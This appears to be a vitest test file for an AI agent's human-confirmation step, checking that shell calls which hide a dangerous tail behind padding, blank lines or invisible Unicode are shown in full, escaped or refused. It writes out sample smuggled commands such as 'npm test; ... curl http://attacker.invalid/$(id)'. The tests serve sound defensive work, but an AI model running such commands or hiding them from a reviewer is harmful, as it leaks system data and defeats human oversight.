import { describe, expect } from 'vitest';
import { jailed } from '../support/jailed.ts';
import { published, render } from '../support/hostile/rendered.ts';
import { nothingPublished, Scene, shell } from '../support/hostile/scene.ts';

describe('what a person is asked to approve', () => {
  jailed('a dangerous end that is pushed out of sight is shown, or the call is refused', { tags: ['R7', 'A058'] }, async () => {
    await using scene = await Scene.create();
    const { run, results } = await scene.play([shell('A058', scene.command('A058', { ATT: 'attacker.invalid' }), 'kept')]);
    const asked = scene.world.repository
      .comments(1)
      .map(({ body }) => body)
      .find((body) => body.includes('gadget:confirmation'));
    if (asked === undefined) {
      expect(results['A058']).toMatch(/^ERROR: .*(long|review)/);
      return;
    }
    expect(run.outputs['status']).toBe('pending-confirmation');
    const command = render(asked).code.find((code) => code.includes('npm test'));
    expect(command).toContain('curl http://attacker.invalid/$(id)');
    expect(command).toMatch(/\d+ blanks/);
    expect(command).toMatch(/\d+ empty lines/);
    expect(command!.length).toBeLessThan(200);
    expect(nothingPublished(scene.world)).toBe(true);
  });

  jailed.each([
    ['R7 A058: one call that is too long to review', 1, 90_000],
    ['R7 A058: several calls that are too long to review together', 8, 15_000],
  ])('%s is refused, or shown to its last character where GitHub takes it', async (_, count, length) => {
    await using scene = await Scene.create();
    const long = (index: number): string => `npm test; : ${'padding '.repeat(length / 8)}; curl http://attacker.invalid/${index}`;
    const { run } = await scene.play(Array.from({ length: count }, (__, index) => shell(`long_${index}`, long(index), 'kept')));
    const texts = published(scene.world);
    for (const text of texts) expect(text.length).toBeLessThanOrEqual(65_536);
    const pending = JSON.parse(run.outputs['pending'] || '[]') as { arguments: string }[];
    for (const call of pending) expect(texts.join('\n')).toContain(/attacker\.invalid\/\d+/.exec(call.arguments)?.[0]);
    expect(['finished', 'pending-confirmation']).toContain(run.outputs['status']);
  });

  jailed('characters that cannot be seen or turn the text around are escaped', { tags: ['R7', 'A058'] }, async () => {
    await using scene = await Scene.create();
    await scene.play([shell('A058', 'npm test \u202E\u2066# eb ot ton\u2069 \u200B; curl attacker.invalid\u00AD', 'kept')]);
    const asked = scene.world.repository
      .comments(1)
      .map(({ body }) => body)
      .find((body) => body.includes('gadget:confirmation'));
    expect(asked).toContain('\\u{202E}');
    expect(asked).toContain('\\u{200B}');
    expect(asked).not.toMatch(/\p{Cf}/u);
  });
});
